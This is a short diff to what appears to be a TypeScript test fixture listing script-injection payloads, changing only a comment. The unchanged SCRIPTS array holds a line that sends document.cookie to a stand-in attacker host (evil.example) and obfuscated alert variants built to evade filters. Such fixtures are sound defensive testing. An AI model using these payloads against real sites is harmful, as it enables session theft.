@@ -1,4 +1,4 @@
-/** Injection attempts for every context a text can be rendered in. */
+/** Injection attempts for every context in which text is rendered. */
 const SCRIPTS = ["alert(1)", "fetch('//evil.example?c='+document.cookie)", "self['al'+'ert'](1)", "top[/al/.source+/ert/.source](1)"];
 
 const markup = (script: string) => [
